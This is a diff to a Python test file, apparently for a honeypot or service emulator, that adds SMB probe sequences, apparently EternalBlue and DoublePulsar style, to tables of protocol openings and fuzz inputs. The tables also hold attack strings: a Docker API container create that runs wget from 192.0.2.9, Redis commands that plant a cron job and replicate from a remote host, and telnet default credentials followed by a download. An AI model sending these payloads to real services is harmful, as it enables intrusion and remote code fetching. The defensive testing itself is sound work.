@@ -19,7 +19,7 @@ from eudaemon.wire import Purse
 from eudaemon.world.host import Host
 from eudaemon.world.outside import Downloaded
 from eudaemon.world.seed import Seed
-from protocols import ssh_client
+from protocols import smb_client, ssh_client
 from protocols.adb_client import CONNECT, frame
 
 HOST = Host.from_seed(Seed(b"test"))
@@ -42,6 +42,7 @@ OPENINGS: dict[str, tuple[bytes, ...]] = {
         b"POST /v1.41/containers/create HTTP/1.1\r\nHost: a\r\nContent-Length: 67\r\n\r\n", b'{"Image":"alpine",',
         b'"Cmd":["sh","-c","wget http://192.0.2.9/x ; id"]}', b"GET /containers/json HTTP/1.1\r\nHost: a\r\n\r\n",
     ),
+    "epmap": (smb_client.BIND_ALIVE[:20], smb_client.BIND_ALIVE[20:], smb_client.request(5, b"")[:20], bytes(4)),
     "front": (b"G", b"ET / HTTP/1.1\r\n"),
     "http": (
         b"POST /x ", b"HTTP/1.1\r\n", b"Host: a\r\nTransfer-Encoding: chunked\r\n", b"\r\n", b"3\r\n", b"a=b", b"\r\n",
@@ -61,6 +62,11 @@ OPENINGS: dict[str, tuple[bytes, ...]] = {
         b"*2\r\n", b"$3\r\nGET\r\n$5\r\n", b"abcde\r\n", b"config set dir /etc/cron.d\r\n", b"set x '* * * * * id'\r\n",
         b"slaveof 192.0.2.9 1\r\nmodule load x\r\n", b"*2\r\n$11\r\nsystem.exec\r\n$15\r\nwget http://a/b\r\n",
     ),
+    "smb": (
+        smb_client.OPENING1[0][:40], smb_client.OPENING1[0][40:], *smb_client.OPENING1[1:], smb_client.look(),
+        smb_client.pulsar(0x23), smb_client.blue(bytes(9000))[0], smb_client.blue(bytes(9000))[1][:60],
+        smb_client.blue(bytes(9000))[1][60:], smb_client.negotiate2(0x0210), smb_client.login2(smb_client.hello()),
+    ),
     "ssh": tuple(ssh_client.opening(Table(load("ssh")(visit(host=HOST))).open())),
     "telnet": (b"\xff\xfd\x01", b"root\r\n", b"xc3511\r\n", b"sh\n", b"echo -e '\\x41", b"'\n", b"wget http://a/b\n"),
 }  # fmt: skip
@@ -78,7 +84,9 @@ WORDS = [
     b'{"Image":"alpine","Cmd":["wget","http://a/b"]}', b"POST /run/%s?cmd=wget+a/b HTTP/1.1\r\nHost: a\r\n\r\n" % PLACE,
     b"GET /exec/%s?command=sh&tty=1 HTTP/1.1\r\nHost: a\r\nSec-WebSocket-Key: a\r\n\r\n" % PLACE,
     b"\x82\x85\0\0\0\0\0id\r\n", b"set a 0 0 5\r\n", b"stats\r\n", b"\0\1\0\0\0\1\0\0stats\r\n",
-    b"\x80\x0b" + bytes(22), b"\0\1\0\0\0\1\0\0set a 0 0 1\r\n1\r\n",
+    smb_client.look(), smb_client.pulsar(0xC8), *smb_client.OPENING1, smb_client.negotiate2(0x0202),
+    smb_client.login2(smb_client.hello()), smb_client.smb2(5, bytes(60)), smb_client.BIND_ALIVE, b"\xfeSMB", b"\xffSMB",
+    smb_client.request(3, bytes(8)), b"\x80\x0b" + bytes(22), b"\0\1\0\0\0\1\0\0set a 0 0 1\r\n1\r\n",
 ]  # fmt: skip
 
 FRONT = "front"  # no room of its own: telnet and HTTP on one port
